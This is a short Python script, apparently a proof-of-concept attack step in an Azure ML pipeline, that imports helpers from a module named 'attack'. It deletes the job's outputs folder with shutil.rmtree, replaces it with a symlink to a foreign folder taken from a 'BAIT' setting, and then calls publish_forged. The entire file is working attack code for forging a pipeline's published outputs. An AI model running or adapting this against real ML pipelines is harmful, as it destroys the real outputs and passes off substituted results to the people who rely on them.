"""Swaps the folder of its outputs for a link to a foreign folder that has the same files."""

import os
import shutil

from attack import BAIT, job_folder, publish_forged


def azureml_main(dataframe1=None, dataframe2=None):
    place = os.path.join(job_folder(), "outputs")
    shutil.rmtree(place)
    os.symlink(BAIT["foreign_outputs"], place)
    publish_forged()
